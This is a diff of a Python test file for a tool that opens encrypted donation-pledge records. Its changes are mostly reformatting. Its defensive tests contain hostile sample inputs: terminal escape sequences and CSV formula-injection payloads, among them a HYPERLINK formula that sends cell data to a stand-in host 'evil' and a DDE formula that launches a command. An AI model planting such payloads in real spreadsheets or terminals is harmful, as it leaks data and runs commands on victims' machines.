@@ -21,14 +21,38 @@ from pledgebox import cli, keys, report, review, safetext, sealing
 
 # -- opening and merging ---------------------------------------------------------------------------
 
+
 def test_the_table_shows_every_pledge_and_totals(tmp_path, identity, run):
-    write_records(tmp_path / "a.sealed", [
-        ("r1", sealed([identity], 1, amount="25.00", designation="solidarity-zone", method="sepa",
-                      pseudonym="Аня", message="Держитесь! Солидарность")),
-        ("r2", sealed([identity], 2, amount="1000.50", designation="abc-irkutsk", method="cash",
-                      contact="anna@example.org", day="2026-11-24")),
-        ("r3", sealed([identity], 3, amount="10.00", designation="split", method="sepa", pseudonym="Jörg")),
-    ])
+    write_records(
+        tmp_path / "a.sealed",
+        [
+            (
+                "r1",
+                sealed(
+                    [identity],
+                    1,
+                    amount="25.00",
+                    designation="solidarity-zone",
+                    method="sepa",
+                    pseudonym="Аня",
+                    message="Держитесь! Солидарность",
+                ),
+            ),
+            (
+                "r2",
+                sealed(
+                    [identity],
+                    2,
+                    amount="1000.50",
+                    designation="abc-irkutsk",
+                    method="cash",
+                    contact="anna@example.org",
+                    day="2026-11-24",
+                ),
+            ),
+            ("r3", sealed([identity], 3, amount="10.00", designation="split", method="sepa", pseudonym="Jörg")),
+        ],
+    )
     code, out, err = run(tmp_path / "a.sealed")
     assert code == 0, err
     assert err == ""
@@ -70,8 +94,9 @@ def test_same_reference_with_different_contents_is_shown_and_warned(tmp_path, id
 
 def test_records_sealed_to_other_keys_are_counted_not_an_error(tmp_path, identities, run):
     mine, theirs = identities[0], identities[1]
-    write_records(tmp_path / "a.sealed", [("r1", sealed([mine], 1)), ("r2", sealed([theirs], 2)),
-                                          ("r3", sealed([theirs], 3))])
+    write_records(
+        tmp_path / "a.sealed", [("r1", sealed([mine], 1)), ("r2", sealed([theirs], 2)), ("r3", sealed([theirs], 3))]
+    )
     code, out, err = run(tmp_path / "a.sealed")
     assert code == 0
     assert [line[:11] for line in rows(out)] == [ref(1)]
@@ -92,8 +117,18 @@ def test_a_wrong_passphrase_is_an_error_and_writes_nothing(tmp_path, identity, k
     write_records(tmp_path / "a.sealed", [("r1", sealed([identity], 1))])
     wrong = tmp_path / "wrong"
     wrong.write_text("not the passphrase\n")
-    code = cli.main(["review", str(tmp_path / "a.sealed"), "--identity", str(keyfile),
-                     "--passphrase-file", str(wrong), "--csv", str(tmp_path / "out.csv")])
+    code = cli.main(
+        [
+            "review",
+            str(tmp_path / "a.sealed"),
+            "--identity",
+            str(keyfile),
+            "--passphrase-file",
+            str(wrong),
+            "--csv",
+            str(tmp_path / "out.csv"),
+        ]
+    )
     out, err = capsys.readouterr()
     assert code == 1
     assert err.startswith("pledgebox: error: Wrong passphrase")
@@ -105,7 +140,7 @@ def test_a_truncated_file_reports_the_cut_record_and_keeps_the_rest(tmp_path, id
     path = tmp_path / "a.sealed"
     write_records(path, [(f"r{i}", sealed([identity], i)) for i in range(3)])
     data = path.read_bytes()
-    path.write_bytes(data[:len(data) - 700])  # cut inside the last record
+    path.write_bytes(data[: len(data) - 700])  # cut inside the last record
     code, out, err = run(path)
     assert code == 0
     assert sorted(line[:11] for line in rows(out)) == sorted([ref(0), ref(1)])
@@ -115,8 +150,8 @@ def test_a_truncated_file_reports_the_cut_record_and_keeps_the_rest(tmp_path, id
 
 def _flip(text: bytes, at: int) -> bytes:
     """Change one base64url character of a record."""
-    old = text[at:at + 1]
-    return text[:at] + (b"A" if old != b"A" else b"B") + text[at + 1:]
+    old = text[at : at + 1]
+    return text[:at] + (b"A" if old != b"A" else b"B") + text[at + 1 :]
 
 
 def test_tampered_records_are_reported_by_file_and_line_and_skipped(tmp_path, identities, run):
@@ -132,9 +167,17 @@ def test_tampered_records_are_reported_by_file_and_line_and_skipped(tmp_path, id
         sealing.seal(b"\xff\xfe not utf-8", [identity.recipient], CAMPAIGN),
     ]
     path = tmp_path / "a.sealed"
-    write_records(path, [("r1", good), ("r2", tampered), ("r3", b'{"v":1,"c":"x","k":"nope"}'),
-                         ("r4", b"not json at all"), ("r5", b'{"v":99,"c":"x","k":[]}')]
-                  + [(f"f{i}", record) for i, record in enumerate(forged_kinds)])
+    write_records(
+        path,
+        [
+            ("r1", good),
+            ("r2", tampered),
+            ("r3", b'{"v":1,"c":"x","k":"nope"}'),
+            ("r4", b"not json at all"),
+            ("r5", b'{"v":99,"c":"x","k":[]}'),
+        ]
+        + [(f"f{i}", record) for i, record in enumerate(forged_kinds)],
+    )
     with open(path, "ab") as file:
         file.write(b"garbage-without-a-space\n\xff\xfe\x1b[2J\n")
     code, out, err = run(path)
@@ -164,8 +207,18 @@ def test_several_identities_open_old_and_new_records(tmp_path, identities, keyfi
     newfile = tmp_path / "new.identity"
     new.save(newfile, PASSPHRASE, scrypt_n=FAST_SCRYPT)
     write_records(tmp_path / "a.sealed", [("r1", sealed([old], 1)), ("r2", sealed([new], 2))])
-    code = cli.main(["review", str(tmp_path / "a.sealed"), "--identity", str(newfile), "--identity", str(keyfile),
-                     "--passphrase-file", str(passfile)])
+    code = cli.main(
+        [
+            "review",
+            str(tmp_path / "a.sealed"),
+            "--identity",
+            str(newfile),
+            "--identity",
+            str(keyfile),
+            "--passphrase-file",
+            str(passfile),
+        ]
+    )
     out, err = capsys.readouterr()
     assert code == 0, err
     assert sorted(line[:11] for line in rows(out)) == sorted([ref(1), ref(2)])
@@ -173,9 +226,20 @@ def test_several_identities_open_old_and_new_records(tmp_path, identities, keyfi
 
 def test_one_passphrase_file_per_identity_or_one_for_all(tmp_path, keyfile, passfile, capsys):
     (tmp_path / "a.sealed").write_bytes(b"")
-    code = cli.main(["review", str(tmp_path / "a.sealed"), "--identity", str(keyfile),
-                     "--passphrase-file", str(passfile), "--passphrase-file", str(passfile),
-                     "--passphrase-file", str(passfile)])
+    code = cli.main(
+        [
+            "review",
+            str(tmp_path / "a.sealed"),
+            "--identity",
+            str(keyfile),
+            "--passphrase-file",
+            str(passfile),
+            "--passphrase-file",
+            str(passfile),
+            "--passphrase-file",
+            str(passfile),
+        ]
+    )
     assert code == 2
     assert "one per --identity" in capsys.readouterr().err
 
@@ -199,6 +263,7 @@ def test_large_inputs_use_every_core_and_small_ones_one_process():
 
 
 # -- progress --------------------------------------------------------------------------------------
+
 
 class Terminal(io.StringIO):
     """A stand-in for stderr on a terminal."""
@@ -260,8 +325,13 @@ RAW_DANGER = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2
 
 
 def test_control_characters_and_bidi_overrides_never_reach_the_terminal(tmp_path, identity, run):
-    write_records(tmp_path / "a.sealed", [("r1", sealed([identity], 1, **PAYLOADS))] + [
-        (f"r{n}", sealed([identity], n, **{name: payload})) for n, (name, payload) in enumerate(CONTROLS.items(), 2)])
+    write_records(
+        tmp_path / "a.sealed",
+        [("r1", sealed([identity], 1, **PAYLOADS))]
+        + [
+            (f"r{n}", sealed([identity], n, **{name: payload})) for n, (name, payload) in enumerate(CONTROLS.items(), 2)
+        ],
+    )
     code, out, err = run(tmp_path / "a.sealed", "--wide")
     assert code == 0
     assert not RAW_DANGER.search(out + err)
@@ -281,8 +351,14 @@ def test_terminal_text_is_always_safe(text):
     assert not any(unicodedata.category(ch) in ("Cc", "Cs", "Zl", "Zp") for ch in safe)
 
 
-@given(st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cf", "Co", "Cs", "Zl", "Zp")).filter(
-    lambda ch: not safetext.hidden(ch)), max_size=40))
+@given(
+    st.text(
+        alphabet=st.characters(blacklist_categories=("Cc", "Cf", "Co", "Cs", "Zl", "Zp")).filter(
+            lambda ch: not safetext.hidden(ch)
+        ),
+        max_size=40,
+    )
+)
 def test_terminal_text_leaves_ordinary_text_alone(text):
     assert safetext.terminal(text) == text.replace("\\", "\\\\")
 
@@ -290,8 +366,9 @@ def test_terminal_text_leaves_ordinary_text_alone(text):
 def test_a_planted_currency_cannot_drive_the_terminal(tmp_path, identity, run):
     # The currency is printed on the "Pledged:" line, outside the table: it once went out raw.
     currency = "\x1b]0;PWNED\x07\x1b[2J"
-    write_records(tmp_path / "a.sealed", [("r1", sealed([identity], 1, currency=currency)),
-                                          ("r2", sealed([identity], 2))])
+    write_records(
+        tmp_path / "a.sealed", [("r1", sealed([identity], 1, currency=currency)), ("r2", sealed([identity], 2))]
+    )
     code, out, err = run(tmp_path / "a.sealed")
     assert code == 0
     assert "\x1b" not in out + err and "\x07" not in out + err and "PWNED" not in out + err
@@ -299,8 +376,17 @@ def test_a_planted_currency_cannot_drive_the_terminal(tmp_path, identity, run):
     assert "Pledged: 25.00 EUR." in out
 
 
-FORMULAS = ["=HYPERLINK(\"http://evil/\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
-            "  =1+1", "\uff1d1+1", "=cmd|' /C calc'!A0"]
+FORMULAS = [
+    '=HYPERLINK("http://evil/"&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "\uff1d1+1",
+    "=cmd|' /C calc'!A0",
+]
 
 
 @pytest.mark.parametrize("payload", FORMULAS)
@@ -316,11 +402,23 @@ def test_no_csv_cell_starts_like_a_formula(text):
 
 
 def test_the_csv_export_is_private_exact_and_safe(tmp_path, identity, run):
-    write_records(tmp_path / "a.sealed", [
-        ("r1", sealed([identity], 1, pseudonym=FORMULAS[0], contact="+49 30 1234", message="-5 € please",
-                      designation="solidarity-zone")),
-        ("r2", sealed([identity], 2, pseudonym="Аня", message="Zeile 1\nZeile 2, mit \"Anführung\"")),
-    ])
+    write_records(
+        tmp_path / "a.sealed",
+        [
+            (
+                "r1",
+                sealed(
+                    [identity],
+                    1,
+                    pseudonym=FORMULAS[0],
+                    contact="+49 30 1234",
+                    message="-5 € please",
+                    designation="solidarity-zone",
+                ),
+            ),
+            ("r2", sealed([identity], 2, pseudonym="Аня", message='Zeile 1\nZeile 2, mit "Anführung"')),
+        ],
+    )
     out_csv = tmp_path / "pledges.csv"
     code, out, err = run(tmp_path / "a.sealed", "--csv", out_csv)
     assert code == 0, err
@@ -337,15 +435,17 @@ def test_the_csv_export_is_private_exact_and_safe(tmp_path, identity, run):
     assert first["designation"] == "solidarity-zone"
     assert first["amount"] == "25.00" and first["currency"] == "EUR"
     assert second["pseudonym"] == "Аня"
-    assert second["message"] == "Zeile 1\nZeile 2, mit \"Anführung\""
+    assert second["message"] == 'Zeile 1\nZeile 2, mit "Anführung"'
     for row in table:
         for value in row.values():
             assert not value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))
 
 
 def test_the_json_export_is_private_exact_and_terminal_safe(tmp_path, identity, run):
-    write_records(tmp_path / "a.sealed", [("r1", sealed([identity], 1, **PAYLOADS)),
-                                          ("r2", sealed([identity], 2, pseudonym="Пётр"))])
+    write_records(
+        tmp_path / "a.sealed",
+        [("r1", sealed([identity], 1, **PAYLOADS)), ("r2", sealed([identity], 2, pseudonym="Пётр"))],
+    )
     with open(tmp_path / "a.sealed", "ab") as file:
         file.write(b"broken line\n")
     out_json = tmp_path / "pledges.json"
@@ -396,11 +496,19 @@ def test_wide_characters_count_double():
 
 
 @settings(max_examples=60, deadline=None)
-@given(lines=st.lists(st.one_of(
-    st.binary(max_size=300),
-    st.builds(lambda key, body: b'r {"v":1,"c":"test-campaign","k":[["%s","%s"]]}' % (key, body),
-              st.sampled_from([b"0011223344556677", b"zz"]), st.text("AZaz09-_", max_size=80).map(str.encode)),
-), max_size=12))
+@given(
+    lines=st.lists(
+        st.one_of(
+            st.binary(max_size=300),
+            st.builds(
+                lambda key, body: b'r {"v":1,"c":"test-campaign","k":[["%s","%s"]]}' % (key, body),
+                st.sampled_from([b"0011223344556677", b"zz"]),
+                st.text("AZaz09-_", max_size=80).map(str.encode),
+            ),
+        ),
+        max_size=12,
+    )
+)
 def test_no_file_content_crashes_review(identities, lines):
     identity = identities[0]
     with tempfile.TemporaryDirectory() as folder:
@@ -419,6 +527,7 @@ def test_no_file_content_crashes_review(identities, lines):
 def test_random_ciphertext_addressed_to_the_identity_is_damaged_not_a_crash(identities, ciphertext):
     identity = identities[0]
     import base64
+
     body = base64.urlsafe_b64encode(ciphertext).rstrip(b"=")
     record = b'{"v":1,"c":"test-campaign","k":[["%s","%s"]]}' % (identity.recipient.key_id.encode(), body)
     kind, why = review.open_record(record, [identity])
@@ -445,9 +554,21 @@ def test_huge_planted_totals_stay_in_their_columns():
     from pledgebox.review import Entry
 
     def entry(i):
-        return Entry(reference=f"R{i}", day="2026-11-25", amount=Decimal("999999999.99"), currency="EUR",
-                     designation="split", method="sepa", pseudonym="", contact="", message="", language="en",
-                     campaign="c", record_id=f"id{i}", received=Decimal("999999999.99"))
+        return Entry(
+            reference=f"R{i}",
+            day="2026-11-25",
+            amount=Decimal("999999999.99"),
+            currency="EUR",
+            designation="split",
+            method="sepa",
+            pseudonym="",
+            contact="",
+            message="",
+            language="en",
+            campaign="c",
+            record_id=f"id{i}",
+            received=Decimal("999999999.99"),
+        )
 
     lines = totals_lines([entry(1), entry(2)], payments=True)
     assert lines[-1].split() == ["All", "2", "1,999,999,999.98", "1,999,999,999.98"]
